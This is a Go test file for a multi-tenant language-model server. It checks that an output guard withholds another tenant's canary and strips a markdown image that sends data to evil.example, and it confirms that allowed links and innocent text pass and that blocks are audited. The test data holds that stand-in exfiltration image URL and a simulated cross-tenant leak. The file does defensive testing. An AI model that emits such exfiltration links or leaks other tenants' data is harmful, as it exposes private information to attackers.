package server

import (
	"net/http"
	"strings"
	"testing"
)

// TestGuardBlocksLeaks plays a model that every other layer failed to stop:
// it says another tenant's canary and builds an exfiltration image. Each
// answer is withheld or rewritten, streamed or not; an innocent answer
// passes, and so does one repeating another tenant's document (the guard is
// no oracle: see oracle_test.go).
func TestGuardBlocksLeaks(t *testing.T) {
	env := newTestEnv(t, envOptions{})
	acmeKey, globexKey := twoTenants(t, env)
	env.admin(t, "PATCH", "/admin/v1/tenants/acme", map[string]any{"allowed_hosts": []string{"docs.acme.example"}}, http.StatusOK)
	globexDoc := "Globex quarterly plan: the magnet division will quietly acquire the northern ore company before the autumn board meeting."
	if r := env.do(t, "POST", "/v1/documents", globexKey, map[string]any{"text": globexDoc}, nil); r.status != http.StatusCreated {
		t.Fatalf("globex document: %v", r)
	}
	globex, err := env.plane.Tenant("globex")
	if err != nil || len(globex.Canaries) == 0 {
		t.Fatalf("globex has no canary: %v", err)
	}
	run := strings.Join(strings.Fields(globexDoc)[3:16], " ") // 13 words of globex's text

	tests := []struct {
		name, say, want, notWant string
	}{
		{"another tenant's canary", "Sure: " + globex.Canaries[0], "withheld", globex.Canaries[0]},
		{"another tenant's document", "I heard that " + run + ".", "ore company", "withheld"},
		{"exfiltration image", "Done ![x](https://evil.example/p.png?d=ACME-FACT) and [docs](https://docs.acme.example/a)", "[image removed]", "evil.example"},
		{"innocent text", "The magnet division and the board meeting are common words.", "common words", "withheld"},
	}
	for _, tt := range tests {
		for _, stream := range []bool{false, true} {
			got := env.say(t, chatCall{key: acmeKey, content: unseen("/say " + tt.say), stream: stream})
			if !strings.Contains(got, tt.want) || strings.Contains(got, tt.notWant) {
				t.Errorf("%s (stream=%v): got %q, want %q and no %q", tt.name, stream, got, tt.want, tt.notWant)
			}
		}
	}
	// The allowed link survives; acme's own canary never leaves either.
	if got := env.say(t, chatCall{key: acmeKey, content: "/say see [docs](https://docs.acme.example/a)"}); !strings.Contains(got, "https://docs.acme.example/a") {
		t.Errorf("allowed link removed: %q", got)
	}
	acme, _ := env.plane.Tenant("acme")
	if got := env.say(t, chatCall{key: acmeKey, content: "/say my canary is " + acme.Canaries[0]}); strings.Contains(got, acme.Canaries[0]) {
		t.Errorf("own canary left in the answer: %q", got)
	}
	// Blocks are audited.
	var blocks int
	for _, r := range auditLog(t, env, "/v1/audit", acmeKey) {
		if r.Type == "guard.block" {
			blocks++
		}
	}
	if blocks != 2 {
		t.Errorf("audit holds %d guard blocks, want the 2 of the canary", blocks)
	}
}
